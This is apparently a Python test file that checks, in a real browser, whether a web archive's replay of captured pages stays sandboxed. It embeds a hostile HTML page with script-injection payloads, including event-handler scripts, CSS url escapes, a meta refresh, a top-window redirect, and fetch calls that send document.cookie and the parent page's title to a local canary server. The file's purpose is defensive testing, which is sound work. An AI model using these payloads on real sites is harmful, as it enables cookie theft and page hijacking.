"""Can a captured page do anything, in a real browser? A hostile one tries all that we know of."""

from collections.abc import Iterator
from dataclasses import dataclass
from datetime import timedelta
from typing import Any

import pytest
from playwright.sync_api import Browser, Page
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import HTMLResponse, Response
from starlette.routing import Route

from asgi_threads import listening, served_in_thread
from canaries import Canary, canaries
from captured_pages import package, picture, visited
from hostile_ways import PAGES, filled
from onrecord.archive import create_archive, open_archive
from onrecord.web import app
from onrecord.web.replay import Passes, ReplayPlace, replay_app
from onrecord.web.replay.headers import Sealed
from web.asking import StoppedClock
from web.ministry import NOW, fill, ref

pytestmark = pytest.mark.rig

POST = ref("startling")
KEY = b"k" * 32
LONG = 1_500  # milliseconds: the last of the page's ways is begun within one second
# Ways that need no script, beside those of `hostile_ways`, and what reads the application.
MORE = """
<img src=x onerror="fetch('http://127.0.0.1:@C/onerror')">
<svg onload="fetch('http://127.0.0.1:@C/svg-onload')"><script>fetch('http://127.0.0.1:@C/in-svg')</script>
<foreignObject><img src="http://127.0.0.1:@C/foreign"></foreignObject></svg>
<body background="http://127.0.0.1:@C/background"><table background="http://127.0.0.1:@C/table">
<input type=image src="http://127.0.0.1:@C/input"><isindex action="http://127.0.0.1:@C/isindex">
<link rel="icon" href="http://127.0.0.1:@C/icon"><link rel=manifest href="http://127.0.0.1:@C/manifest">
<meta http-equiv=refresh content="1;url=http://127.0.0.1:@C/refresh-itself">
<p style='background:u\\72l("http://127.0.0.1:@C/escaped")'>x</p>
<style>p{background:u\\72l("http://127.0.0.1:@C/escaped-sheet")}
p::before{content:image-set("http://127.0.0.1:@C/image-set" 1x)}</style>
<script>window.ran = 1; try { fetch('http://127.0.0.1:@C/read-' + parent.document.title) } catch (e) {}
try { fetch('http://127.0.0.1:@C/cookie-' + document.cookie) } catch (e) {}
top.location = 'http://127.0.0.1:@C/top'</script>
<a href="http://127.0.0.1:@C/clicked" target=_top>a link to be clicked</a>
"""


def hostile(port: int) -> str:
    words = (
        "<article><a href='/@ministry.test'>@ministry.test</a><p>We leave the Harbour Accord "
        "tonight.<br>Our patience is over.</p>"
    )
    return filled(PAGES["/"][1] + words + MORE, port)


@dataclass(frozen=True, slots=True)
class Room:
    """The pages' origin, that of captured pages, and the canaries that the page calls."""

    pages: str
    replay: str
    raw: str  # the hostile page as its site served it
    entry: int
    whole: str
    canary: Canary
    sealed_off: Canary  # those that it calls as its site served it, with our headers alone
    reached: Canary  # those that the page calls where its site serves it

    @property
    def frames(self) -> list[str]:
        """The captured page as anybody sees it, as editors do, and as nothing but sealed."""
        return [f"{self.replay}{one}" for one in (f"/captures/{self.entry}/", self.whole, "/raw")]

    def open(self, browser: Browser, path: str, **more: Any) -> Page:
        """A page of ours, whose frames are given time."""
        context = browser.new_context(**more)
        context.add_cookies([{"name": "session", "value": "SECRET", "url": self.pages}])
        page = context.new_page()
        page.goto(f"{self.pages}{path}")
        page.wait_for_timeout(LONG)
        return page


@pytest.fixture(scope="module")
def room(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Room]:
    folder = tmp_path_factory.mktemp("sealed") / "archive"
    create_archive(folder, "records.example/tides")
    with (
        canaries() as canary,
        canaries() as sealed_off,
        canaries() as reached,
        listening() as ours,
        listening() as theirs,
        listening() as site,
    ):
        ports = [one.getsockname()[1] for one in (ours, theirs, site)]
        dom = hostile(canary.port)
        with open_archive(folder) as archive:
            fill(archive)
            pictures = {f"http://127.0.0.1:{canary.port}/icon": ("image/png", picture(9, 9))}
            entry = visited(archive, package(dom, pictures), [POST]).index
            archive.publish()
        with open_archive(folder, writing=False) as archive:
            clock, passes = StoppedClock(), Passes(KEY)
            pages = f"http://127.0.0.1:{ports[0]}"
            made = app(archive, clock)
            made.state.replay = ReplayPlace(f"http://captures.localhost:{ports[1]}")
            whole = f"/whole/{passes.give(entry, NOW)}/{entry}/"
            made.router.routes.insert(0, Route("/frames", _frames))
            made.state.frames = [
                f"http://captures.localhost:{ports[1]}{path}"
                for path in (f"/captures/{entry}/", whole, "/raw")
            ]
            replay = replay_app(archive, passes, clock, [pages])
            as_served = hostile(sealed_off.port)
            sealed = Starlette(routes=[Route("/raw", lambda _: HTMLResponse(as_served))])
            both = _either(replay, Sealed(sealed, [pages]))
            loose = hostile(reached.port)
            raw = Starlette(routes=[Route("/", lambda _: HTMLResponse(loose))])
            with (
                served_in_thread(made, ours),
                served_in_thread(both, theirs),
                served_in_thread(raw, site),
            ):
                yield Room(
                    pages,
                    f"http://captures.localhost:{ports[1]}",
                    f"http://127.0.0.1:{ports[2]}/",
                    entry,
                    whole,
                    canary,
                    sealed_off,
                    reached,
                )


def _either(replay: Any, sealed: Any) -> Any:
    async def answer(scope: Any, receive: Any, send: Any) -> None:
        await (sealed if scope["path"] == "/raw" else replay)(scope, receive, send)

    return answer


def _frames(request: Request) -> Response:
    """A page of ours with the captured page in all manners, in frames that are not even sandboxed."""
    frames = "".join(
        f"<iframe src='{one}' width=600 height=400></iframe>" for one in request.app.state.frames
    )
    return HTMLResponse(f"<!doctype html><title>OURS</title><p id=ours>SECRET</p>{frames}")


def test_the_page_reaches_what_it_can_where_nothing_holds_it(browser: Browser, room: Room) -> None:
    """Else the tests below would prove nothing."""
    page = browser.new_context().new_page()
    expected = {"/css", "/iframe", "/video", "/fetch", "/onerror", "/svg"}
    for number in range(500):
        if expected <= room.reached.asked:
            break
        if number % 50 == 0:  # it leads itself elsewhere, perhaps before all of it has run
            page.goto(room.raw, wait_until="commit")
        page.wait_for_timeout(100)
    page.context.close()
    assert expected <= room.reached.asked


def test_nothing_is_asked_of_anybody(browser: Browser, room: Room) -> None:
    page = room.open(browser, "/frames")
    assert [one.url for one in page.frames[1:4]] == room.frames
    assert room.canary.heard == []
    # The policy alone lets a browser connect beforehand (preconnect), and say nothing.
    assert room.sealed_off.asked == set()
    assert page.url == f"{room.pages}/frames"  # it led nowhere
    page.context.close()


def test_nothing_in_it_runs_and_it_has_an_origin_of_its_own(browser: Browser, room: Room) -> None:
    page = room.open(browser, "/frames")
    for frame in page.frames[1:4]:
        assert frame.evaluate("window.ran") is None, frame.url
        assert frame.evaluate("origin") == "null"
        assert (
            frame.evaluate("() => { try { return parent.document.title } catch { return 0 } }") == 0
        )
        assert frame.evaluate("() => { try { return document.cookie } catch { return 0 } }") == 0
    page.context.close()


def test_the_part_and_the_whole_are_shown(browser: Browser, room: Room) -> None:
    page = room.open(browser, "/frames")
    part, whole = page.frames[1], page.frames[2]
    assert part.get_by_text("We leave the Harbour Accord tonight.").is_visible()
    assert part.locator("a[href], img, form, iframe, script, svg, [style]").count() == 0
    assert whole.get_by_text("a link to be clicked").is_visible()
    whole.get_by_text("a link to be clicked").click()
    page.wait_for_timeout(300)
    assert page.url == f"{room.pages}/frames" and room.canary.heard == []
    page.context.close()


def test_no_cookie_reaches_the_captured_page_or_comes_from_it(browser: Browser, room: Room) -> None:
    page = room.open(browser, f"/posts/{POST}")
    context = page.context
    sent: list[str | None] = []
    page.on(
        "request",
        lambda one: (
            sent.append(one.all_headers().get("cookie")) if room.replay in one.url else None
        ),
    )
    page.locator("details.replayed summary").click()
    page.locator("details.replayed iframe").scroll_into_view_if_needed()
    page.wait_for_timeout(LONG)
    assert len(page.frames) == 2
    assert sent and set(sent) == {None}
    assert {one["name"] for one in context.cookies()} == {"session"}
    context.close()


def test_a_frame_of_ours_is_sandboxed_lazy_and_silent(browser: Browser, room: Room) -> None:
    page = room.open(browser, f"/posts/{POST}")
    frame = page.locator("details.replayed iframe")
    told = {name: frame.get_attribute(name) for name in ("sandbox", "referrerpolicy", "loading")}
    assert told == {"sandbox": "", "referrerpolicy": "no-referrer", "loading": "lazy"}
    assert page.frames[1].url == ""  # nobody opened it, so nothing was asked
    page.context.close()


def test_nobody_else_can_frame_it(browser: Browser, room: Room) -> None:
    address = f"{room.replay}/captures/{room.entry}/"
    page = browser.new_context().new_page()
    said: list[str] = []
    page.on("console", lambda one: said.append(one.text))
    with (
        listening() as other,
        served_in_thread(
            Starlette(routes=[Route("/", lambda _: HTMLResponse(f"<iframe src='{address}'>"))]),
            other,
        ),
    ):
        page.goto(f"http://127.0.0.1:{other.getsockname()[1]}/")
        page.wait_for_timeout(300)
        assert any("frame-ancestors" in one for one in said)
        assert page.frames[1].url.startswith("chrome-error:")
    page.context.close()


def test_our_pages_frame_nothing_else(browser: Browser, room: Room) -> None:
    page = room.open(browser, f"/posts/{POST}")
    said: list[str] = []
    page.on("console", lambda one: said.append(one.text))
    page.evaluate(
        "address => { const f = document.createElement('iframe'); f.src = address;"
        " document.body.append(f) }",
        f"http://127.0.0.1:{room.sealed_off.port}/framed",
    )
    page.wait_for_timeout(300)
    assert any("frame-src" in one for one in said)
    assert room.sealed_off.asked == set()
    page.context.close()


def test_a_pass_is_for_one_capture_and_for_a_quarter_of_an_hour() -> None:
    passes = Passes(KEY)
    given = passes.give(7, NOW)
    assert passes.holds(given, 7, NOW + timedelta(minutes=15))
    assert not passes.holds(given, 7, NOW + timedelta(minutes=15, seconds=1))
    assert not passes.holds(given, 8, NOW)
    assert not Passes(b"x" * 32).holds(given, 7, NOW)
    for forged in (
        "",
        "-",
        "x",
        f"{given}0",
        given.replace("-", ""),
        "9" * 12 + "-" + "0" * 32,
        "٣-é",
    ):
        assert not passes.holds(forged, 7, NOW), forged
